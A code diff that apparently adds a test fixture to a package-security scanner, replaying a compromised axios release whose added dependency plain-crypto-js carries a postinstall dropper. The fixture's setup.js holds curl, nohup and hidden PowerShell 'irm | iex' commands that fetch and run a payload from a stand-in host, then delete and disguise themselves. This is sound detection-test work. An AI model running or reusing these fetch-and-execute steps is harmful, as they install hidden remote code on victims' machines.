@@ -1,22 +1,45 @@
+import { obfuscated } from '../obfuscated.js'
+import { compiledQueue, durations } from '../plain-modules.js'
 import type { Replay } from '../replay.js'
+import { onVersion, type PackageFinding } from '../upgrade.js'
+
+/** Fetches what fits the platform, starts it apart from the install, and puts the honest package.json in its own place. */
+const setup = obfuscated(`
+const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$child=require(«child_process»);
+if($os[«platform»]()===«darwin»)$child[«exec»](«curl -o /Library/Caches/com.inert.agent -d packages.cdn.test/product0 -s http://drop-cdn.example:8000/stage && chmod 770 /Library/Caches/com.inert.agent && /bin/zsh -c "/Library/Caches/com.inert.agent &"»,{'windowsHide':!![]});
+else if($os[«platform»]()===«win32»)$child[«exec»](«powershell -w hidden -c "irm http://drop-cdn.example:8000/stage | iex"»,{'windowsHide':!![]});
+else $child[«exec»](«curl -o /tmp/ld.py -d packages.cdn.test/product2 -s http://drop-cdn.example:8000/stage && nohup python3 /tmp/ld.py > /dev/null 2>&1 &»,{'windowsHide':!![]});
+$fs[«unlinkSync»](__filename);
+$fs[«renameSync»]($path[«join»](__dirname,«package.md»),$path[«join»](__dirname,«package.json»));
+`)
+
+const client = `${compiledQueue}exports.request = (options) => createQueue().add(() => fetch(options.url, options));\n`
+const command = 'node setup.js'
+
+const dropped = (...finding: PackageFinding) => onVersion('plain-crypto-js', '4.2.1', finding)
 
 export const replay: Replay = {
   description:
     'A taken-over maintainer account released axios with one more dependency that no line of it used. That package was a day old, ' +
-    'and its postinstall script was the attack.',
+    'and its script after installation fetched a program for each platform, started it, and then put itself out of sight. That ' +
+    'provenance was lost and the publisher’s address changed is for the rules about identity.',
   date: '2026-03-31',
   packages: {
     axios: {
-      '1.14.0': { files: { 'index.js': 'module.exports = 1\n' } },
+      '1.14.0': { manifest: { main: 'dist/index.js' }, files: { 'dist/index.js': client } },
       '1.14.1': {
-        manifest: { dependencies: { 'plain-crypto-js': '^4.2.1' } },
-        files: { 'index.js': 'module.exports = 1\n' },
+        manifest: { main: 'dist/index.js', dependencies: { 'plain-crypto-js': '^4.2.1' } },
+        files: { 'dist/index.js': client },
       },
     },
     'plain-crypto-js': {
       '4.2.1': {
-        manifest: { scripts: { postinstall: 'node setup.js' } },
-        files: { 'setup.js': "require('fs').unlinkSync(__filename)\n" },
+        manifest: { main: 'index.js', scripts: { postinstall: command } },
+        files: {
+          'index.js': durations,
+          'setup.js': setup,
+          'package.md': '{ "name": "plain-crypto-js", "version": "4.2.0" }\n',
+        },
       },
     },
   },
@@ -31,20 +54,12 @@ export const replay: Replay = {
   expected: {
     verdict: 'flagged',
     findings: [
-      {
-        rule: 'install-script-dangerous',
-        severity: 'critical',
-        package: 'plain-crypto-js',
-        file: 'package-lock.json',
-        line: '"version": "4.2.1",',
-      },
-      {
-        rule: 'install-script-present',
-        severity: 'medium',
-        package: 'plain-crypto-js',
-        file: 'package-lock.json',
-        line: '"version": "4.2.1",',
-      },
+      onVersion('axios', '1.14.1', ['dependency-phantom', 'high', { file: 'package.json' }]),
+      dropped('install-script-dangerous', 'critical', { file: 'setup.js', line: setup }),
+      dropped('combined-risk', 'critical'),
+      dropped('code-obfuscated', 'high', { file: 'setup.js' }),
+      dropped('scanner-evasion', 'high', { file: 'setup.js', line: setup }),
+      dropped('install-script-present', 'medium', { file: 'package.json' }),
     ],
   },
 }
